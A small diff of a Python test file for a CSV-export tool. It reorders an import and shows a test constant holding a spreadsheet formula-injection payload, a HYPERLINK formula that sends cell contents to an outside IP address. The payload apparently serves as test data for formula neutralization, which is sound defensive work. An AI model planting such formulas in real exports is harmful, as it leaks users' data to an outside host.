@@ -11,11 +11,11 @@ import io
 
 import pandas as pd
 import pytest
+from recorded import record
 
 from dpprof.cli import main
 from dpprof.export import formula_like, neutralize_formulas, to_csv_bytes
 from dpprof.views import export
-from recorded import record
 
 LINK = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")'
 
